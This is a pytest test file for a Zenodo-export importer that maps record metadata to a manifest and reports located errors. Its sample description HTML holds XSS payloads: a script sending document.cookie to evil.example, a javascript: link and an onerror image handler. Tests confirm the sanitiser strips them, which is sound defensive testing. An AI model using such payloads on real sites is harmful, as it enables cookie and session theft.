"""`mifa import zenodo`: Zenodo's JSON exports (records API, InvenioRDM, DataCite) become a draft
manifest, field by field; bad files are reported where they are wrong, never with a traceback.

The exports are written by the tests in the shapes Zenodo serves them: the records API
(`/api/records/<id>`, the legacy serialiser), the record page's Export > JSON (InvenioRDM) and
Export > DataCite JSON.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from site_builder import validate_text
from site_builder.importers.zenodo import STAND_IN, html_to_markdown, import_zenodo
from site_builder.model import Manifest

from .conftest import Result

NOW = datetime(2024, 5, 1, 10, 0, tzinfo=UTC)

DESCRIPTION_HTML = (
    '<p>Fluorescence images of <strong>U2OS</strong> nuclei stained with Hoechst, with '
    'hand-drawn instance masks.</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<ul><li>training: 447 images</li><li>test: 50 images</li></ul>'
    '<p>Code: <a href="https://github.com/example/nuclei" onclick="steal()">the repository</a>; '
    '<a href="javascript:alert(1)">click</a>. Literal text &lt;script&gt;x&lt;/script&gt; &amp; '
    '5 &lt; 6.</p><img src="https://evil.example/x.png" onerror="alert(2)">'
)


def legacy_record(**metadata: Any) -> dict[str, Any]:
    """Version 2 of 3 of a record, as the records API serves it."""
    record: dict[str, Any] = {
        "created": "2021-06-02T09:12:44.123456+00:00",
        "modified": "2023-11-20T10:01:02.000000+00:00",
        "id": 4938432,
        "conceptrecid": "3715491",
        "doi": "10.5281/zenodo.4938432",
        "conceptdoi": "10.5281/zenodo.3715491",
        "doi_url": "https://doi.org/10.5281/zenodo.4938432",
        "metadata": {
            "title": "Nuclei of U2OS cells in fluorescence microscopy, with instance masks",
            "doi": "10.5281/zenodo.4938432",
            "publication_date": "2021-06-02",
            "description": DESCRIPTION_HTML,
            "access_right": "open",
            "creators": [
                {"name": "Lovelace, Ada", "affiliation": "European Bioinformatics Institute",
                 "orcid": "0000-0002-1825-0097"},
                {"name": "Hopper, Grace Brewster", "affiliation": None},
            ],
            "contributors": [{"name": "Curie, Marie", "type": "DataCurator",
                              "orcid": "0000-0002-1694-233X"}],
            "keywords": ["nuclei", "segmentation", "fluorescence", "nuclei"],
            "related_identifiers": [
                {"identifier": "10.1038/s41592-018-0261-2", "relation": "isSupplementTo",
                 "resource_type": "publication-article", "scheme": "doi"},
                {"identifier": "https://github.com/example/nuclei", "relation": "isSupplementedBy",
                 "scheme": "url"},
                {"identifier": "10.5281/zenodo.3715492", "relation": "isNewVersionOf", "scheme": "doi"},
                {"identifier": "urn:nbn:de:0001-2021", "relation": "isIdenticalTo", "scheme": "urn"},
            ],
            "version": "v2.1",
            "language": "eng",
            "resource_type": {"title": "Dataset", "type": "dataset"},
            "license": {"id": "cc-by-4.0"},
            "grants": [{"code": "101017536", "internal_id": "10.13039/501100000780::101017536",
                        "title": "Imaging data for artificial intelligence",
                        "funder": {"name": "European Commission", "acronym": "EC",
                                   "doi": "10.13039/501100000780"}}],
            "relations": {"version": [{"index": 1, "is_last": False, "count": 3,
                                       "parent": {"pid_type": "recid", "pid_value": "3715491"}}]},
            "notes": "Masks were drawn in Fiji by two annotators.",
        },
        "title": "Nuclei of U2OS cells in fluorescence microscopy, with instance masks",
        "links": {"self": "https://zenodo.org/api/records/4938432",
                  "html": "https://zenodo.org/records/4938432"},
        "updated": "2023-11-20T10:01:02.000000+00:00",
        "recid": "4938432",
        "revision": 7,
        "files": [
            {"id": "5f2b6c1e-train", "key": "train.zip", "size": 1834567123,
             "checksum": "md5:9e107d9d372bb6826bd81d3542a419d6",
             "links": {"self": "https://zenodo.org/api/records/4938432/files/train.zip/content"}},
            {"id": "0c9a71d3-test", "key": "test.zip", "size": 204857600,
             "checksum": "md5:e4d909c290d0fb1ca068ffaddf22cbd0",
             "links": {"self": "https://zenodo.org/api/records/4938432/files/test.zip/content"}},
        ],
        "owners": [{"id": 12345}],
        "status": "published",
        "stats": {"downloads": 1000, "unique_downloads": 800, "views": 3000},
        "state": "done",
        "submitted": True,
    }
    record["metadata"].update(metadata)
    return record


def rdm_record() -> dict[str, Any]:
    """The latest (third) version, as the record page's Export > JSON gives it."""
    return {
        "access": {"embargo": {"active": False, "reason": None}, "files": "public", "record": "public",
                   "status": "open"},
        "created": "2023-02-14T08:00:00.000000+00:00",
        "custom_fields": {},
        "deletion_status": {"is_deleted": False, "status": "P"},
        "files": {
            "count": 3, "enabled": True, "order": [], "total_bytes": 3200,
            "entries": {
                "images.zip": {"access": {"hidden": False},
                               "checksum": "md5:0cc175b9c0f1b6a831c399e269772661", "ext": "zip",
                               "id": "d21bf181", "key": "images.zip", "metadata": None,
                               "mimetype": "application/zip", "size": 2000, "storage_class": "L"},
                "masks.zip": {"access": {"hidden": False}, "checksum": "md5:92eb5ffee6ae2fec3ad71c777531578f",
                              "ext": "zip", "id": "e31cf292", "key": "masks.zip", "metadata": None,
                              "mimetype": "application/zip", "size": 1000, "storage_class": "L"},
                "README.md": {"access": {"hidden": False}, "checksum": "md5:4a8a08f09d37b73795649038408b5f33",
                              "ext": "md", "id": "f41de3a3", "key": "README.md", "metadata": None,
                              "mimetype": "text/markdown", "size": 200, "storage_class": "L"},
            },
        },
        "id": "7654321",
        "is_draft": False,
        "is_published": True,
        "links": {"self": "https://zenodo.org/api/records/7654321"},
        "media_files": {"count": 0, "enabled": False, "entries": {}, "order": [], "total_bytes": 0},
        "metadata": {
            "creators": [
                {"affiliations": [{"id": "02catss52", "name": "European Bioinformatics Institute"}],
                 "person_or_org": {"family_name": "van der Berg", "given_name": "Anna Maria",
                                   "identifiers": [{"identifier": "0000-0001-5109-3700",
                                                    "scheme": "orcid"}],
                                   "name": "van der Berg, Anna Maria", "type": "personal"}},
                {"affiliations": [{"name": "University of Somewhere"}],
                 "person_or_org": {"family_name": "Okafor", "given_name": "Chidi",
                                   "name": "Okafor, Chidi", "type": "personal"}},
                {"person_or_org": {"name": "Open Microscopy Consortium", "type": "organizational"}},
            ],
            "description": "<p>Electron microscopy of mouse <em>cortex</em>, with mitochondria labels.</p>",
            "funding": [{"award": {"id": "00k4n6c32::945700", "number": "945700",
                                   "title": {"en": "Mitochondria at scale"}},
                         "funder": {"id": "00k4n6c32", "name": "European Research Council"}}],
            "publication_date": "2023-02-14",
            "publisher": "Zenodo",
            "related_identifiers": [
                {"identifier": "10.1101/2022.11.01.514711", "relation_type": {
                    "id": "iscitedby", "title": {"de": "Wird zitiert von", "en": "Is cited by"}},
                 "resource_type": {"id": "publication-preprint", "title": {"en": "Preprint"}},
                 "scheme": "doi"},
                {"identifier": "https://github.com/example/mito", "relation_type": {
                    "id": "isderivedfrom", "title": {"en": "Is derived from"}}, "scheme": "url"},
            ],
            "resource_type": {"id": "dataset", "title": {"de": "Datensatz", "en": "Dataset"}},
            "rights": [{"description": {"en": "The Creative Commons Public Domain Dedication."},
                        "icon": "cc-zero-icon", "id": "cc0-1.0",
                        "props": {"scheme": "spdx", "url": "https://creativecommons.org/publicdomain/zero/1.0/legalcode"},
                        "title": {"en": "Creative Commons Zero v1.0 Universal"}}],
            "subjects": [{"subject": "electron microscopy"}, {"subject": "mitochondria"}],
            "title": "Mitochondria in mouse cortex, serial-section EM",
            "version": "3.0",
            "languages": [{"id": "eng", "title": {"en": "English"}}],
        },
        "parent": {"access": {"owned_by": {"user": "1"}}, "communities": {},
                   "id": "7654300",
                   "pids": {"doi": {"client": "datacite", "identifier": "10.5281/zenodo.7654300",
                                    "provider": "datacite"}}},
        "pids": {"doi": {"client": "datacite", "identifier": "10.5281/zenodo.7654321",
                         "provider": "datacite"},
                 "oai": {"identifier": "oai:zenodo.org:7654321", "provider": "oai"}},
        "revision_id": 5,
        "stats": {"this_version": {"downloads": 3}, "all_versions": {"downloads": 10}},
        "status": "published",
        "updated": "2023-02-15T08:00:00.000000+00:00",
        "versions": {"index": 3, "is_latest": True},
    }


def datacite_record() -> dict[str, Any]:
    """The same kind of record as the record page's Export > DataCite JSON gives it."""
    return {
        "types": {"resourceTypeGeneral": "Dataset", "resourceType": "",
                  "schemaOrg": "Dataset", "bibtex": "misc", "citeproc": "dataset", "ris": "DATA"},
        "creators": [
            {"name": "Sankar, Martial", "nameType": "Personal", "givenName": "Martial",
             "familyName": "Sankar",
             "affiliation": [{"name": "University of Lausanne", "affiliationIdentifier":
                              "https://ror.org/019whta54", "affiliationIdentifierScheme": "ROR"}],
             "nameIdentifiers": [{"nameIdentifier": "https://orcid.org/0000-0002-1825-0097",
                                  "nameIdentifierScheme": "ORCID", "schemeUri": "https://orcid.org"}]},
            {"name": "Hardeman, Megan", "nameType": "Personal", "affiliation": [],
             "nameIdentifiers": []},
        ],
        "titles": [{"title": "Plant hypocotyl sections with annotated cells"},
                   {"title": "Hypocotyl dataset", "titleType": "AlternativeTitle"}],
        "publisher": "Zenodo",
        "publicationYear": "2019",
        "subjects": [{"subject": "plant biology"}, {"subject": "cell segmentation"}],
        "dates": [{"date": "2019-03-12", "dateType": "Issued"}],
        "language": "en",
        "identifiers": [{"identifier": "https://zenodo.org/records/2601234", "identifierType": "URL"},
                        {"identifier": "10.5281/ZENODO.2601234", "identifierType": "DOI"}],
        "relatedIdentifiers": [
            {"relatedIdentifier": "10.5281/zenodo.2601233", "relatedIdentifierType": "DOI",
             "relationType": "IsVersionOf"},
            {"relatedIdentifier": "10.7554/eLife.01567", "relatedIdentifierType": "DOI",
             "relationType": "IsSupplementTo", "resourceTypeGeneral": "JournalArticle"},
            {"relatedIdentifier": "https://zenodo.org/communities/bioimaging",
             "relatedIdentifierType": "URL", "relationType": "IsPartOf"},
        ],
        "sizes": ["4.2 GB"],
        "version": "1.0",
        "rightsList": [
            {"rights": "Creative Commons Attribution 4.0 International",
             "rightsUri": "https://creativecommons.org/licenses/by/4.0/legalcode",
             "rightsIdentifier": "cc-by-4.0", "rightsIdentifierScheme": "spdx"},
            {"rights": "Open Access", "rightsUri": "info:eu-repo/semantics/openAccess"},
        ],
        "descriptions": [{"description": "<p>Sections of <b>Arabidopsis</b> hypocotyls.</p>",
                          "descriptionType": "Abstract"},
                         {"description": "Cells were outlined in napari.", "descriptionType": "Methods"}],
        "fundingReferences": [{"funderName": "Swiss National Science Foundation",
                               "funderIdentifier": "https://doi.org/10.13039/501100001711",
                               "funderIdentifierType": "Crossref Funder ID", "awardNumber": "31003A_1",
                               "awardTitle": "Secondary growth"}],
        "schemaVersion": "http://datacite.org/schema/kernel-4",
    }


def write(folder: Path, data: Any, name: str = "record.json", *, indent: int | None = 2) -> Path:
    path = folder / name
    path.write_text(json.dumps(data, indent=indent), encoding="utf-8")
    return path


def line_of(path: Path, text: str) -> int:
    """The 1-based line of the first line of the file that holds `text`."""
    return next(i for i, line in enumerate(path.read_text().splitlines(), 1) if text in line)


@pytest.fixture
def legacy(tmp_path: Path) -> Path:
    return write(tmp_path, legacy_record())


def filled(data: dict[str, Any]) -> dict[str, Any]:
    """The draft as a curator completes it: the annotation set and the paper described."""
    data = json.loads(json.dumps(data))
    data["annotations"][0].update(annotation_overview="Nuclei outlined one by one.",
                                  annotation_type=["segmentation_mask"],
                                  annotation_method="Drawn by hand in Fiji by two biologists.")
    for publication in data["study"].get("publications", []):
        publication.update(publication_title="A paper", publication_authors="A. Author")
    return data


# --- the records API (legacy shape), one version of three --------------------------------------


def test_legacy_record_study_fields(legacy: Path) -> None:
    result = import_zenodo(legacy, now=NOW)
    assert [p for p in result.problems if p.severity == "error"] == []
    assert result.manifest is not None and result.data is not None
    study = result.manifest.study
    assert study.title == "Nuclei of U2OS cells in fluorescence microscopy, with instance masks"
    assert study.keywords == ["nuclei", "segmentation", "fluorescence"]
    assert study.license == "CC-BY-4.0"
    assert study.accession == "zenodo.4938432"
    assert study.data_url == "https://doi.org/10.5281/zenodo.4938432"
    assert study.release_date == "2021-06-02"
    assert study.funding_statement == ("Funded by European Commission (grant 101017536, Imaging data "
                                       "for artificial intelligence).")
    assert [(g.grant_id, g.funder) for g in study.grants] == [("101017536", "European Commission")]
    assert study.link_url == ["https://doi.org/10.5281/zenodo.3715491",
                              "https://github.com/example/nuclei",
                              "https://doi.org/10.5281/zenodo.3715492"]
    assert study.link_description == ["All versions (Zenodo concept DOI)",
                                      "Supplemented by (relation IsSupplementedBy)",
                                      "New version of (relation IsNewVersionOf)"]
    (paper,) = study.publications
    assert paper.publication_doi == "10.1038/s41592-018-0261-2"
    assert result.data["study"]["publications"] == [
        {"publication_title": None, "publication_authors": None,
         "publication_doi": "10.1038/s41592-018-0261-2"}]


def test_legacy_record_authors(legacy: Path) -> None:
    result = import_zenodo(legacy, now=NOW)
    assert result.manifest is not None
    first, second = result.manifest.study.authors
    assert (first.author_first_name, first.author_last_name) == ("Ada", "Lovelace")
    assert first.orcid_id == "0000-0002-1825-0097"
    assert [o.organisation_name for o in first.organisation] == ["European Bioinformatics Institute"]
    assert (second.author_first_name, second.author_last_name) == ("Grace Brewster", "Hopper")
    assert second.orcid_id is None and second.organisation == []
    assert any("'Curie, Marie' (DataCurator, ORCID 0000-0002-1694-233X) is not imported" in n
               for n in result.notes)


def test_a_version_of_several_says_which_was_imported(legacy: Path) -> None:
    result = import_zenodo(legacy, now=NOW)
    assert ("imported version 2 of 3 (labelled 'v2.1') of the record, not the latest one; all "
            "versions: https://doi.org/10.5281/zenodo.3715491") in result.notes
    assert any(n.startswith("a newer version of the record exists") for n in result.notes)
    assert result.data is not None
    zenodo = result.data["config"]["zenodo"]
    assert {k: zenodo[k] for k in ("record_id", "doi", "concept_doi", "version", "version_index",
                                   "is_latest")} == {
        "record_id": "4938432", "doi": "10.5281/zenodo.4938432",
        "concept_doi": "10.5281/zenodo.3715491", "version": "v2.1", "version_index": 2,
        "is_latest": False}



def test_an_older_version_in_the_inveniordm_export(tmp_path: Path) -> None:
    record = rdm_record()
    record["versions"] = {"index": 2, "is_latest": False}
    record["metadata"]["version"] = "2.0"
    result = import_zenodo(write(tmp_path, record), now=NOW)
    assert ("imported version 2 (labelled '2.0') of the record, not the latest one; all versions: "
            "https://doi.org/10.5281/zenodo.7654300") in result.notes
    assert result.data is not None
    zenodo = result.data["config"]["zenodo"]
    assert (zenodo["version_index"], zenodo["is_latest"]) == (2, False)
    assert zenodo["concept_record_id"] == "7654300"
    assert result.data["study"]["link_url"][0] == "https://doi.org/10.5281/zenodo.7654300"

def test_files_become_the_total_size_and_a_listing_with_checksums(legacy: Path) -> None:
    result = import_zenodo(legacy, now=NOW)
    assert result.manifest is not None and result.data is not None
    assert result.manifest.images is not None
    assert result.manifest.images.total_size_bytes == 1834567123 + 204857600
    assert result.data["config"]["zenodo"]["files"] == [
        {"key": "train.zip", "size": 1834567123, "checksum": "md5:9e107d9d372bb6826bd81d3542a419d6"},
        {"key": "test.zip", "size": 204857600, "checksum": "md5:e4d909c290d0fb1ca068ffaddf22cbd0"}]
    assert result.manifest.annotations[0].file_metadata == []  # archives are not annotation files
    assert "  file train.zip (1,834,567,123 bytes, md5:9e107d9d372bb6826bd81d3542a419d6)" in result.notes
    assert "  file test.zip (204,857,600 bytes, md5:e4d909c290d0fb1ca068ffaddf22cbd0)" in result.notes


def test_what_has_no_mifa_field_is_listed(legacy: Path) -> None:
    notes = "\n".join(import_zenodo(legacy, now=NOW).notes)
    assert "metadata.language" in notes
    assert "metadata.notes" in notes
    assert "'urn:nbn:de:0001-2021' (scheme urn) has no MIFA field" in notes
    assert "10.1038/s41592-018-0261-2 is taken as a paper about the data" in notes


def test_required_fields_the_record_cannot_give_are_left_to_fill_in(legacy: Path) -> None:
    result = import_zenodo(legacy, now=NOW)
    assert result.to_fill == ["study.publications[0].publication_title",
                              "study.publications[0].publication_authors",
                              "annotations[0].annotation_overview", "annotations[0].annotation_type",
                              "annotations[0].annotation_method"]
    assert result.data is not None and result.manifest is not None
    assert result.data["annotations"] == [{"annotation_overview": None, "annotation_type": None,
                                           "annotation_method": None}]
    assert result.manifest.annotations[0].annotation_method == STAND_IN  # never written
    assert "to fill in: annotations[0].annotation_method" in "\n".join(result.notes)
    completed = Manifest.model_validate(filled(result.data))
    assert completed.study.model_dump(exclude={"publications"}) == \
        result.manifest.study.model_dump(exclude={"publications"})


# --- the description: HTML in, Markdown out, nothing executable -------------------------------


def test_html_description_becomes_markdown_without_any_tag(legacy: Path) -> None:
    result = import_zenodo(legacy, now=NOW)
    assert result.manifest is not None
    description = result.manifest.study.description
    assert description == (
        "Fluorescence images of **U2OS** nuclei stained with Hoechst, with hand-drawn instance "
        "masks.\n\n- training: 447 images\n- test: 50 images\n\n"
        "Code: [the repository](https://github.com/example/nuclei); click. Literal text "
        "&lt;script>x&lt;/script> & 5 < 6.")
    for absent in ("document.cookie", "evil.example", "javascript:", "onclick", "onerror", "<script",
                   "<img", "<p>"):
        assert absent not in description
    warning = next(p for p in result.problems if p.path == "metadata.description")
    assert warning.severity == "warning"
    assert "1 img, 1 script" in warning.message
    assert warning.line == line_of(legacy, '"description"')


def test_html_description_renders_as_the_text_it_showed(legacy: Path) -> None:
    from site_builder.render.text import render_markdown

    result = import_zenodo(legacy, now=NOW)
    assert result.manifest is not None
    html = str(render_markdown(result.manifest.study.description))
    assert "<strong>U2OS</strong>" in html
    assert "&lt;script&gt;x&lt;/script&gt;" in html  # shown as text, as on Zenodo
    assert "<li>training: 447 images</li>" in html
    assert 'href="https://github.com/example/nuclei"' in html


@pytest.mark.parametrize(("html", "markdown"), [
    ("<h2>Data</h2><p>Two <em>sets</em>.</p>", "## Data\n\nTwo *sets*."),
    ("<ol><li>one<ol><li>inner</li></ol></li><li>two</li></ol>", "1. one\n    1. inner\n2. two"),
    ("<p>a<br>b</p>", "a\nb"),
    ("<pre>x = 1\n&lt;tag&gt;</pre>", "    x = 1\n    <tag>"),
    ("<p>Use <code>a*b</code> and * stars [x]</p>", "Use `a*b` and \\* stars \\[x\\]"),
    ("<p># not a heading</p><p>- not a list</p>", "\\# not a heading\n\n\\- not a list"),
    ("<style>p {color: red}</style><p>text</p><!-- hidden -->", "text"),
    ("<b> bold </b>text", "**bold** text"),
    ("plain text\n\nsecond paragraph", "plain text\n\nsecond paragraph"),
    ('<a href="https://example.org/a(b)">link</a>', "[link](https://example.org/a%28b%29)"),
    ("<div><script>unclosed", ""),
])
def test_html_to_markdown(html: str, markdown: str) -> None:
    assert html_to_markdown(html)[0] == markdown


# --- the InvenioRDM export ---------------------------------------------------------------------


def test_inveniordm_export(tmp_path: Path) -> None:
    path = write(tmp_path, rdm_record())
    result = import_zenodo(path, now=NOW)
    assert [p for p in result.problems if p.severity == "error"] == []
    assert result.manifest is not None and result.data is not None
    study = result.manifest.study
    assert study.title == "Mitochondria in mouse cortex, serial-section EM"
    assert study.description == "Electron microscopy of mouse *cortex*, with mitochondria labels."
    assert study.license == "CC0-1.0"
    assert study.keywords == ["electron microscopy", "mitochondria"]
    assert [(a.author_first_name, a.author_last_name, a.orcid_id) for a in study.authors] == [
        ("Anna Maria", "van der Berg", "0000-0001-5109-3700"), ("Chidi", "Okafor", None)]
    assert study.authors[0].organisation[0].organisation_name == "European Bioinformatics Institute"
    assert study.authors[0].organisation[0].ror_id == "02catss52"
    assert study.authors[1].organisation[0].ror_id is None
    assert study.accession == "zenodo.7654321"
    assert study.data_url == "https://doi.org/10.5281/zenodo.7654321"
    assert study.release_date == "2023-02-14"
    assert study.funding_statement == ("Funded by European Research Council (grant 945700, Mitochondria "
                                       "at scale).")
    assert [p.publication_doi for p in study.publications] == ["10.1101/2022.11.01.514711"]
    assert study.link_url == ["https://doi.org/10.5281/zenodo.7654300", "https://github.com/example/mito"]
    assert study.link_description == ["All versions (Zenodo concept DOI)",
                                      "Derived from (relation IsDerivedFrom)"]
    assert result.manifest.images is not None and result.manifest.images.total_size_bytes == 3200
    assert [f["key"] for f in result.data["config"]["zenodo"]["files"]] == ["images.zip", "masks.zip",
                                                                           "README.md"]
    notes = "\n".join(result.notes)
    assert ("imported version 3 (labelled '3.0') of the record, the latest one; all versions: "
            "https://doi.org/10.5281/zenodo.7654300") in notes
    assert "the creator 'Open Microscopy Consortium' is an organisation" in notes
    assert "metadata.languages" in notes


# --- DataCite JSON -----------------------------------------------------------------------------


def test_datacite_json(tmp_path: Path) -> None:
    path = write(tmp_path, datacite_record())
    result = import_zenodo(path, now=NOW)
    assert [p for p in result.problems if p.severity == "error"] == []
    assert result.manifest is not None and result.data is not None
    study = result.manifest.study
    assert study.title == "Plant hypocotyl sections with annotated cells"
    assert study.description == "Sections of **Arabidopsis** hypocotyls."
    assert study.license == "CC-BY-4.0"
    assert study.keywords == ["plant biology", "cell segmentation"]
    sankar, hardeman = study.authors
    assert (sankar.author_first_name, sankar.author_last_name) == ("Martial", "Sankar")
    assert sankar.orcid_id == "0000-0002-1825-0097"  # from the orcid.org URL
    assert sankar.organisation[0].organisation_name == "University of Lausanne"
    assert sankar.organisation[0].ror_id == "019whta54"
    assert (hardeman.author_first_name, hardeman.author_last_name) == ("Megan", "Hardeman")
    assert study.accession == "zenodo.2601234"
    assert study.data_url == "https://doi.org/10.5281/zenodo.2601234"
    assert study.release_date == "2019-03-12"
    assert [p.publication_doi for p in study.publications] == ["10.7554/eLife.01567"]
    assert study.link_url == ["https://doi.org/10.5281/zenodo.2601233",
                              "https://zenodo.org/communities/bioimaging"]
    assert study.link_description == ["All versions (Zenodo concept DOI)", "Part of (relation IsPartOf)"]
    assert study.funding_statement == ("Funded by Swiss National Science Foundation (grant 31003A_1, "
                                       "Secondary growth).")
    assert result.manifest.images is None  # DataCite lists no files
    assert result.data["config"]["zenodo"]["concept_doi"] == "10.5281/zenodo.2601233"
    notes = "\n".join(result.notes)
    assert "a description of type Methods is not imported" in notes
    assert "AlternativeTitle title 'Hypocotyl dataset' is not imported" in notes
    assert "sizes: DataCite gives the sizes as text (4.2 GB)" in notes
    assert "language" in notes


def test_datacite_rest_api_wrapper(tmp_path: Path) -> None:
    wrapped = {"data": {"id": "10.5281/zenodo.2601234", "type": "dois", "attributes": datacite_record()}}
    result = import_zenodo(write(tmp_path, wrapped), now=NOW)
    assert result.manifest is not None
    assert result.manifest.study.title == "Plant hypocotyl sections with annotated cells"


# --- licences: as `mifa validate` says ---------------------------------------------------------


@pytest.mark.parametrize(("given", "spdx"), [
    ({"id": "cc-zero"}, "CC0-1.0"), ({"id": "CC-BY-4.0"}, "CC-BY-4.0"), ("cc-by", "CC-BY-4.0"),
    ({"id": "cc-by-sa-4.0"}, "CC-BY-SA-4.0"), ({"id": "notspecified"}, "NOASSERTION"),
])
def test_zenodo_licence_ids_become_spdx(tmp_path: Path, given: Any, spdx: str) -> None:
    result = import_zenodo(write(tmp_path, legacy_record(license=given)), now=NOW)
    assert result.manifest is not None
    assert result.manifest.study.license == spdx


def test_licence_warnings_are_those_of_validate_located_in_the_record(tmp_path: Path) -> None:
    path = write(tmp_path, legacy_record(license={"id": "cc-by-nc-4.0"}))
    result = import_zenodo(path, now=NOW)
    assert result.manifest is not None and result.data is not None
    assert result.manifest.study.license == "CC-BY-NC-4.0"
    ours = [p for p in result.problems if p.path == "metadata.license.id"]
    validated = validate_text(yaml.safe_dump(filled(result.data)))
    theirs = [p for p in validated.problems if p.path == "study.license"]
    assert [(p.severity, p.message, p.hint) for p in ours] == [
        (p.severity, p.message, p.hint) for p in theirs] != []
    assert {p.line for p in ours} == {line_of(path, '"cc-by-nc-4.0"')}


def test_a_licence_without_spdx_id_is_noassertion_with_a_located_warning(tmp_path: Path) -> None:
    path = write(tmp_path, legacy_record(license={"id": "other-open"}))
    result = import_zenodo(path, now=NOW)
    assert result.manifest is not None
    assert result.manifest.study.license == "NOASSERTION"
    located = [p for p in result.problems if p.path == "metadata.license.id"]
    assert len(located) == 2 and {p.line for p in located} == {line_of(path, '"other-open"')}
    assert any("not an SPDX licence id" in p.message and "NOASSERTION" in p.message for p in located)
    assert any("licence is not stated" in p.message for p in located)  # validate's own warning


# --- problems located in the source file -------------------------------------------------------


def test_a_bad_orcid_is_left_out_with_a_located_warning(tmp_path: Path) -> None:
    record = legacy_record()
    record["metadata"]["creators"][0]["orcid"] = "0000-0002-1825-0098"
    path = write(tmp_path, record)
    result = import_zenodo(path, now=NOW)
    assert result.manifest is not None and result.manifest.study.authors[0].orcid_id is None
    (problem,) = [p for p in result.problems if p.path == "metadata.creators[0].orcid"]
    assert problem.severity == "warning" and "left out" in problem.message
    line = line_of(path, '"0000-0002-1825-0098"')
    column = path.read_text().splitlines()[line - 1].index('"0000') + 1
    assert (problem.line, problem.column) == (line, column)


def test_positions_in_compact_json(tmp_path: Path) -> None:
    path = write(tmp_path, legacy_record(creators=[{"name": "Lovelace, Ada", "orcid": "bad"}]), indent=None)
    result = import_zenodo(path, now=NOW)
    (problem,) = [p for p in result.problems if p.path == "metadata.creators[0].orcid"]
    assert (problem.line, problem.column) == (1, path.read_text().index('"bad"') + 1)


def test_positions_survive_escaped_characters(tmp_path: Path) -> None:
    """Zenodo escapes non-ASCII text (\\u00f3, and emoji as surrogate pairs): positions hold."""
    record = legacy_record(title="Núcleos 🔬 of cells", creators=[{"name": "López, Ana", "orcid": "bad"}])
    path = write(tmp_path, record)
    assert "\\ud83d" in path.read_text()
    result = import_zenodo(path, now=NOW)
    assert result.manifest is not None and result.manifest.study.title == "Núcleos 🔬 of cells"
    (problem,) = [p for p in result.problems if p.path == "metadata.creators[0].orcid"]
    assert problem.line == line_of(path, '"bad"')


@pytest.mark.parametrize(("text", "where", "says"), [
    ('{"metadata": {"title": "x",\n  "creators": [}\n}', (2, 16), "not valid JSON"),
    ("[1, 2]", (1, 1), "not a record"),
    ('{"hits": {"hits": []}}', (1, 1), "search result"),
    ('{"name": "a model"}', (1, 1), "not a Zenodo record"),
    ('{"metadata": {"title": "a"},\n "metadata": {"title": "b"}}', (2, 2), "duplicate key 'metadata'"),
    ('{"a": NaN}', (1, 1), "NaN is not a JSON value"),
    ("", (1, 1), "not valid JSON"),
    ('{"metadata": ' * 50 + "{}" + "}" * 50, (1, 40 * 13 + 1), "nesting is deeper than 40 levels"),
])
def test_unreadable_files_are_located_errors(tmp_path: Path, text: str, where: tuple[int, int],
                                             says: str) -> None:
    path = tmp_path / "record.json"
    path.write_text(text, encoding="utf-8")
    result = import_zenodo(path, now=NOW)
    assert result.data is None and result.manifest is None
    (problem,) = result.problems
    assert problem.severity == "error" and says in problem.message
    assert (problem.line, problem.column) == where


def test_not_utf8_is_located(tmp_path: Path) -> None:
    path = tmp_path / "record.json"
    path.write_bytes(b'{"metadata":\n {"title": "caf\xe9"}}')
    (problem,) = import_zenodo(path).problems
    assert (problem.line, problem.column) == (2, 16) and "not UTF-8" in problem.message


def test_wrong_types_are_located_errors(tmp_path: Path) -> None:
    record = legacy_record(creators="Lovelace, Ada", keywords=[["nested"]])
    record["files"][1]["size"] = "200 MB"
    path = write(tmp_path, record)
    result = import_zenodo(path, now=NOW)
    assert result.data is None
    errors = {(p.path, p.line) for p in result.problems if p.severity == "error"}
    assert errors == {("metadata.creators", line_of(path, '"creators"')),
                      ("metadata.keywords[0]", line_of(path, '"keywords"') + 1),
                      ("files[1].size", line_of(path, '"200 MB"'))}


def test_a_huge_file_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "record.json"
    with path.open("wb") as handle:
        handle.truncate(9 * 1024 * 1024)
    (problem,) = import_zenodo(path).problems
    assert "over the 8,388,608-byte limit" in problem.message


# --- the command -------------------------------------------------------------------------------


def test_cli_writes_a_draft_that_validate_completes(mifa: Callable[..., Result], legacy: Path,
                                                    tmp_path: Path) -> None:
    out = tmp_path / "datasets" / "u2os-nuclei" / "1.0.yaml"
    result = mifa("import", "zenodo", legacy, "--out", out)
    assert result.code == 0
    assert "note: imported version 2 of 3" in result.err
    assert f"wrote {out}; fill in study.publications[0].publication_title" in result.err
    text = out.read_text()
    assert text.startswith("# yaml-language-server: $schema=../../catalogue/manifest.schema.json\n"
                           "# Imported from the Zenodo export record.json by `mifa import zenodo`.\n")
    assert "  annotation_method:\n" in text and STAND_IN not in text
    draft = yaml.safe_load(text)
    before = validate_text(text)
    assert {p.path for p in before.problems if p.severity == "error"} == {
        "study.publications[0].publication_title", "study.publications[0].publication_authors",
        "annotations[0].annotation_overview", "annotations[0].annotation_type",
        "annotations[0].annotation_method"}
    after = validate_text(yaml.safe_dump(filled(draft)))
    assert after.manifest is not None
    assert [p for p in after.problems if p.severity == "error"] == []
    assert after.manifest.study.license == "CC-BY-4.0"


def test_cli_never_overwrites(mifa: Callable[..., Result], legacy: Path, tmp_path: Path) -> None:
    out = tmp_path / "1.0.yaml"
    out.write_text("curated: true\n")
    result = mifa("import", "zenodo", legacy, "--out", out)
    assert result.code == 2 and "already exists" in result.err
    assert out.read_text() == "curated: true\n"


def test_cli_prints_to_stdout_and_fails_on_bad_input(mifa: Callable[..., Result], legacy: Path,
                                                     tmp_path: Path) -> None:
    result = mifa("import", "zenodo", legacy)
    assert result.code == 0 and yaml.safe_load(result.out)["study"]["accession"] == "zenodo.4938432"
    bad = tmp_path / "bad.json"
    bad.write_text("{not json")
    result = mifa("import", "zenodo", bad)
    assert result.code == 1 and result.out == ""
    assert "bad.json" in result.err and "Traceback" not in result.err
    missing = mifa("import", "zenodo", tmp_path / "nope.json")
    assert missing.code == 2 and "no such file" in missing.err
